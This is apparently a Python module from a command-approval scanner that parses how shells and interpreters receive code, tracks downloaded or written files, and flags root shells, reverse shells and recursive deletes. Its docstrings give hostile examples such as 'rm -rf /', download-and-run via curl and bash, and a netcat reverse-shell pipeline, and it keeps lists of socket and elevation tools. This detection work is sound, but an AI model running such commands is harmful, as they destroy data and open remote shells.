"""Scanner helpers: how shells and interpreters take their program, what flows through a pipe, and
what a command line defines before it uses it (functions, aliases, files it writes or downloads).

A command line that writes a script and then runs it (`echo 'rm -rf ~' > x.sh && sh x.sh`, or
`curl -o i.sh URL && bash i.sh`) is judged on what it wrote; `f(){ "$@"; }; f rm -rf /` on the call.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from hermes.tools.approval_checks_secrets import secret_producer  # noqa: F401
from hermes.tools.approval_checks_system import find_roots, find_unfiltered, in_tree
from hermes.tools.approval_checks_data import _FUNC
from hermes.tools.approval_paths import canon
from hermes.tools.normalize import Segment, Word, Wrap, cmd_name, quote

SHELLS = frozenset("sh bash zsh dash ksh mksh ash fish csh tcsh yash posh nu xonsh elvish oil osh ysh".split())
DOWNLOADERS = frozenset("curl wget fetch http https xh aria2c lwp-request lynx nc ncat netcat socat".split())
_SOCKETS = frozenset("nc ncat netcat socat telnet cryptcat sbd openssl pwncat".split())
_ELEVATE = frozenset("sudo doas pkexec runuser su-exec gosu".split())
_Stage = tuple[Segment, list[Word], Wrap]

_LANGS = {"python": "python", "pypy": "python", "ipython": "python", "perl": "perl", "ruby": "ruby", "node": "node",
          "nodejs": "node", "php": "php", "lua": "lua", "luajit": "lua", "rscript": "r", "r": "r",
          "bun": "node",
          # Languages read by the generic rule (payloads.code_payloads): a command-running word anywhere
          # in the code, and each of its strings is judged as a command.
          "julia": "julia", "guile": "lisp", "racket": "lisp", "sbcl": "lisp", "clisp": "lisp", "emacs": "lisp",
          "bb": "lisp", "clojure": "lisp", "erl": "erlang", "elixir": "elixir", "groovy": "jvm", "scala": "jvm",
          "kotlin": "jvm", "jshell": "jvm", "osascript": "applescript", "octave": "octave", "matlab": "octave",
          "ghc": "haskell", "runghc": "haskell", "crystal": "crystal", "tclsh": "tcl", "wish": "tcl",
          "swipl": "prolog"}
_CODE_FLAGS = {"python": "c", "perl": "eE", "ruby": "e", "node": "ep", "php": "r", "lua": "e", "r": "e",
               "julia": "eE", "lisp": "cex", "erlang": "", "elixir": "e", "jvm": "e", "applescript": "e",
               "octave": "r", "haskell": "e", "crystal": "", "tcl": "", "prolog": "g"}
_CODE_LONG = {"node": ("--eval", "--print"), "julia": ("--eval", "--print"), "lisp": ("--eval", "--execute"),
              "erlang": ("-eval",), "elixir": ("--eval",), "octave": ("--eval", "-batch"), "crystal": ("eval",)}


def code_lang(name: str) -> str | None:
    return _LANGS.get(re.sub(r"[\d.]+$", "", name))


_VALUED = {"shell": {"-o", "+o", "-O", "+O", "--rcfile", "--init-file"},
           "python": {"-W", "-X"}, "node": {"-r", "--require", "--import", "--loader", "--input-type"},
           "perl": {"-I", "-x"}, "ruby": {"-I", "-r", "-C"}, "php": {"-d", "-c", "-z"}, "lua": {"-l"}, "r": set()}
# Letters whose value may be attached (ruby -rfileutils, perl -Mfeature=say): the rest of the word is
# that value, not more flags.
_ATTACHED = {"python": "WX", "perl": "IMmx", "ruby": "IrC", "php": "dcz", "lua": "l", "node": "r"}


def _code_flag(args: list[str], letters: str, long_flags: tuple[str, ...] = (), attached: str = "") -> str | None:
    """The program text after a -c / -e style flag, wherever it sits (fail closed: even after a
    script name, where it would be the script's own argument)."""
    for k, a in enumerate(args):
        if a == "--":
            break
        if a in long_flags:
            return args[k + 1] if k + 1 < len(args) else ""
        if not a.startswith("-") or a.startswith("--"):
            continue
        for i, ch in enumerate(a[1:]):
            if ch in attached or not ch.isalpha():
                break  # the rest is that option's value (ruby -rsocket), not more flags
            if ch in letters:  # -e 'code', -ne 'code', or the code attached: -e'code'
                rest = a[i + 2:]
                return rest if rest else (args[k + 1] if k + 1 < len(args) else "")
    return None


def _operand(args: list[str], valued: set[str], valued_last: str = "") -> str | None:
    """The first operand (script, file or module), skipping option values; `valued_last` names
    letters that take a value when they end a flag group (bash -euxo pipefail)."""
    k = 0
    while k < len(args):
        a = args[k]
        if a == "--":
            return args[k + 1] if k + 1 < len(args) else None
        if a in valued or (a[:1] in "-+" and a[1:].isalpha() and a[-1] in valued_last):
            k += 2
        elif a.startswith(("-", "+")) and a not in ("-", "+"):
            k += 1
        else:
            return a
    return None


def shell_mode(args: list[str]) -> tuple[str, str | None]:
    """How a shell gets its script: ("c", text), ("file", path) or ("stdin", None)."""
    script = _code_flag(args, "c")
    if script is not None:
        return "c", script
    op = _operand(args, _VALUED["shell"], "oO")
    if op is None or op in ("-", "/dev/stdin") or any(re.fullmatch(r"[-+][a-zA-Z]*s[a-zA-Z]*", a) for a in args):
        return "stdin", None
    return "file", op


def code_mode(lang: str, args: list[str]) -> tuple[str, str | None]:
    """How an interpreter gets its program: ("c", code), ("module"|"file", name) or ("stdin", None)."""
    code = _code_flag(args, _CODE_FLAGS[lang], _CODE_LONG.get(lang, ()), _ATTACHED.get(lang, ""))
    if code is not None:
        return "c", code
    for k, a in enumerate(args):
        if a == "-m" or (lang == "python" and re.fullmatch(r"-[A-Za-z]*m", a)):
            return "module", args[k + 1] if k + 1 < len(args) else ""
    op = _operand(args, _VALUED.get(lang, set()))
    return ("stdin", None) if op is None or op in ("-", "/dev/stdin") else ("file", op)


@dataclass(frozen=True)
class _Flow:
    """What flows through a pipe: its bytes when we can compute them, and where it came from."""

    data: bytes | None = None
    sources: frozenset[str] = frozenset()  # download | decode | generated | file | secret


def root_shell(wrap: Wrap, argv: list[str], seg: Segment) -> bool:
    """`sudo bash`, `doas sh`, `pkexec zsh`: an interactive shell as root."""
    return (bool(argv) and bool(_ELEVATE.intersection(wrap.names)) and cmd_name(argv[0]) in SHELLS
            and shell_mode(argv[1:])[0] == "stdin" and seg.stdin is None
            and not any(op == "<" for op, _ in seg.redirects))


def pipeline_shell_socket(stages: list[_Stage]) -> bool:
    """A shell reading its commands from the same pipeline as a raw socket: a reverse shell
    (mkfifo f; cat f | sh -i | nc host port > f)."""
    if len(stages) < 2:
        return False
    names = [cmd_name(w[0].text) if w else "" for _, w, _ in stages]
    return bool(_SOCKETS.intersection(names)) and any(
        n in SHELLS and shell_mode([x.text for x in w[1:]])[0] == "stdin" for n, (_, w, _) in zip(names, stages))


_POSITIONAL = re.compile(r'"\$(?:[@*]|\{[@*]\})"|\$(?:[@*]|\{[@*]\})|"?\$\{?([1-9])\}?"?')


@dataclass
class Defs:
    funcs: dict[str, str] = field(default_factory=dict)
    aliases: dict[str, str] = field(default_factory=dict)
    files: dict[str, _Flow] = field(default_factory=dict)
    calling: set[str] = field(default_factory=set)

    def read_functions(self, text: str) -> None:
        if "(" in text or "function" in text:
            for m in _FUNC.finditer(text):
                self.funcs[m.group(1) or m.group(2)] = m.group(3)

    def expand_call(self, name: str, argv: list[str]) -> str | None:
        """The text a call to a function or alias defined earlier runs, arguments substituted."""
        if name in self.calling or (name not in self.funcs and name not in self.aliases):
            return None
        self.calling.add(name)
        if name in self.aliases:
            return " ".join([self.aliases[name]] + [quote(a) for a in argv[1:]])
        args = " ".join(quote(a) for a in argv[1:])

        def sub(m: re.Match[str]) -> str:
            if m.group(1) is None:
                return args
            k = int(m.group(1))
            return quote(argv[k]) if k < len(argv) else ""
        return _POSITIONAL.sub(sub, self.funcs[name])

    def done_call(self, name: str) -> None:
        self.calling.discard(name)

    def record_writes(self, stages: list[_Stage], out: _Flow) -> list[str]:
        """Records `out` as what the files the pipeline writes now hold (redirects of its last stage,
        a final tee's operands); returns those files."""
        seg, words, _ = stages[-1]
        files = [target for op, target in seg.redirects if op in (">", ">>", ">|", "&>", "&>>")]
        if words and cmd_name(words[0].text) == "tee":
            files += [w.text for w in words[1:] if not w.text.startswith("-")]
        for f in files:
            self.files[canon(f)] = out
        return files

    def record_download(self, name: str, args: list[str]) -> None:
        urls = [a for a in args if "://" in a]
        dest = None
        for k, a in enumerate(args):
            nxt = args[k + 1] if k + 1 < len(args) else None
            if name == "curl" and (a == "--output" or re.fullmatch(r"-[A-Za-z]*o", a)):
                dest = nxt
            elif name == "wget" and (a == "--output-document" or re.fullmatch(r"-[A-Za-z]*O", a)):
                dest = nxt
            elif a.startswith(("--output=", "--output-document=")):
                dest = a.split("=", 1)[1]
        if dest is None and urls and (name == "wget" or any(re.fullmatch(r"-[A-Za-z]*O|--remote-name", a)
                                                             for a in args)):
            dest = urls[-1].split("?")[0].rstrip("/").rsplit("/", 1)[-1]
        if dest and dest != "-":
            self.files[canon(dest)] = _Flow(None, frozenset({"download"}))

    def xargs_over_find(self, stages: list[_Stage]) -> list[list[str]]:
        """The command an xargs stage runs on every file of an unfiltered find, with the roots as operands."""
        out = []
        for (_, pw, _), (_, words, wrap) in zip(stages, stages[1:]):
            if wrap.xargs and pw and words and cmd_name(pw[0].text) == "find":
                roots, exprs = find_roots([w.text for w in pw[1:]])
                if find_unfiltered(exprs):  # every file under the root is the root, recursively
                    argv = [w.text for w in words]
                    out.append(argv[:1] + ["-r"] * (cmd_name(argv[0]) == "rm") + argv[1:] + roots)
        return out

    def local_xargs(self, stages: list[_Stage]) -> set[int]:
        """xargs stages fed by a filtered `find` strictly inside the working tree (find . -name '*.o' |
        xargs rm): the list of files is known to be local build output."""
        out: set[int] = set()
        for (_, pw, _), (seg, _, wrap) in zip(stages, stages[1:]):
            if wrap.xargs and pw and cmd_name(pw[0].text) == "find":
                roots, exprs = find_roots([w.text for w in pw[1:]])
                if not find_unfiltered(exprs) and all(in_tree(r) or r in (".", "./") for r in roots):
                    out.add(id(seg))
        return out
